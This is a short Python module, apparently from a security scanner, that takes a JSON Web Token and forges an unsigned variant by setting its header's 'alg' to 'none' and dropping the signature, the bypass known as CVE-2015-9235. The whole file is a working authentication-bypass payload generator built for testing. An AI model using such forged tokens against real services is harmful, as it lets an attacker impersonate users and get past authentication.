"""Tokens that say of themselves that they need no signature (AUTH-03, CVE-2015-9235)."""

from __future__ import annotations

import base64
import binascii

import orjson

UNSIGNED = "a valid token whose header says that it is not signed, without its signature"


def unsigned(token: str) -> list[tuple[str, str]]:
    """The token's claims under the header of an unsigned one; nothing where the token is no JSON Web Token."""
    head, *rest = token.split(".")
    if len(rest) != 2 or not all((head, *rest)):
        return []
    try:
        told = orjson.loads(base64.urlsafe_b64decode(head + "=" * (-len(head) % 4)))
    except (binascii.Error, ValueError):
        return []
    if not isinstance(told, dict) or "alg" not in told:
        return []
    forged = base64.urlsafe_b64encode(orjson.dumps({**told, "alg": "none"})).decode().rstrip("=")
    return [(UNSIGNED, f"{forged}.{rest[0]}.")]
